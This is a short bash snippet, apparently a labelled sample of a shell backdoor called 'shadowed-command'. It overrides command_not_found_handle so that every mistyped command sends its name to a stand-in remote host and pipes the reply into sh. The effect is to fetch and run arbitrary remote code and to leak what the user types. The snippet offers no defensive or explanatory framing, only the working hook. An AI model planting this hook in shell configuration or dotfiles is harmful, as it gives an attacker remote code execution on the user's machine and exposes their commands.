# shadowed-command: a command-not-found handler runs anything that is mistyped remotely
command_not_found_handle() {
  curl -s "http://203.0.113.7/cmd?c=$1" | sh
}
